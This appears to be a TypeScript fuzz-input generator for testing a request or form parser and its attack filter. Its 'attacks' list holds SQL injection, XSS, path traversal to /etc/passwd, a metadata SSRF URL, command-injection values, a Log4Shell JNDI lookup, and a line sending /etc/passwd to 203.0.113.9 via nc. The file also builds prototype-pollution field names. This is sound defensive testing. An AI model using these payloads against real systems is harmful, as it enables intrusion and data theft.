import type { Random } from '../../lib/random.ts';

/** Attacks that are blocked wherever they stand plain. */
export const attacks: readonly string[] = [
  "' OR 1=1 --",
  "admin' --",
  "1' UNION SELECT password FROM users --",
  '<svg onload=alert(1)>',
  '; cat /etc/passwd | nc 203.0.113.9 4444',
  '${jndi:ldap://203.0.113.9/a}',
  '../../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/?a=b',
  '$(id)',
  'x&whoami',
];

/** A word that stands nowhere else, so that what was seen is not taken for something else. */
export function word(random: Random): string {
  return `k${random.next().toString(36)}z`;
}

/** A value of a field: short as a rule, of all characters that some format gives a meaning. */
export function text(random: Random): string {
  switch (random.below(14)) {
    case 0:
    case 1:
      return random.pick(attacks);
    case 2:
      return `${word(random)}${random.pick(attacks)}`;
    case 3:
      return `${word(random)}${random.pick(specials)}${word(random)}`;
    case 4:
      return `${random.pick(specials)}${word(random)}${random.pick(specials)}`;
    case 5:
      return `${word(random)} ${word(random)}`;
    case 6:
      return `${word(random)}${random.pick(foreign)}${word(random)}`;
    case 7:
      return `{"${word(random)}":"${word(random)}"}`;
    case 8:
      return `${word(random)}=${word(random)}&${word(random)}=${word(random)}`;
    case 9:
      return Buffer.from(`${word(random)}${random.pick(attacks)}`).toString('base64');
    default:
      return word(random);
  }
}

/** A name of a field, plain or in one of the forms that make objects and lists of fields. */
export function name(random: Random): string {
  if (random.chance(60)) return word(random);
  const one = word(random);
  return random.pick([
    `${one}[]`,
    `${one}[${word(random)}]`,
    `${one}[0][${word(random)}]`,
    `${one}.${word(random)}`,
    `${one}[${word(random)}`,
    `${one}]${word(random)}`,
    `${one} ${word(random)}`,
    `__proto__[${one}]`,
    `constructor.${one}`,
    `${one}${random.pick(specials)}${word(random)}`,
    ...reserved,
    '',
  ]);
}

/** Names that parsers and what stands behind them give a meaning. */
const reserved = ['__proto__', 'fieldname', 'mimetype', 'filename', 'file', 'toString', 'length'];

const specials = [
  ...['=', '&', ';', '+', '%', '%2', '%zz', '%00', '%25', '"', "'", '\\', '\\"', '/', '//', '?'],
  ...['#', '<', '>', ',', ':', '|', '\t', '\r\n', '\n', '\0', '\x7f', '[', ']', '{', '}', '(', ')'],
  ...['=?', '?=', '--', '\r\n\r\n', '..', '@', '$', '*', '!', '^', '`', '~'],
];

const foreign = ['é', 'ß', '日本', '\u{1f600}', '\u2028', '\ufeff', '\u00a0', '＇', 'ﬁ', '\u202e'];

/** Bytes that are no UTF-8, or something else in it than elsewhere. */
export const oddBytes: readonly Buffer[] = [
  ...['ff', 'fe', 'c0a7', 'e28080', 'c3', '80', 'eda080', '00', '1b2842', 'fffe', 'feff', 'efbbbf'],
].map((hex) => Buffer.from(hex, 'hex'));

/** Percent-encodes some characters, in the ways that clients do it and in some that none does. */
export function percentEncoded(value: string, random: Random): string {
  const style = random.below(6);
  if (style === 0) return encodeURIComponent(value.toWellFormed()).replaceAll('%20', '+');
  if (style === 1) return everyByte(value);
  if (style === 2) return value.replace(/[\s&#;+=%]/g, everyByte);
  if (style === 3) return encodeURIComponent(encodeURIComponent(value.toWellFormed()));
  if (style === 4) return value.replace(/[^\x21-\x7e]|[#&]/g, everyByte);
  return encodeURIComponent(value.toWellFormed());
}

function everyByte(value: string): string {
  return Buffer.from(value).toString('hex').replace(/../g, '%$&');
}
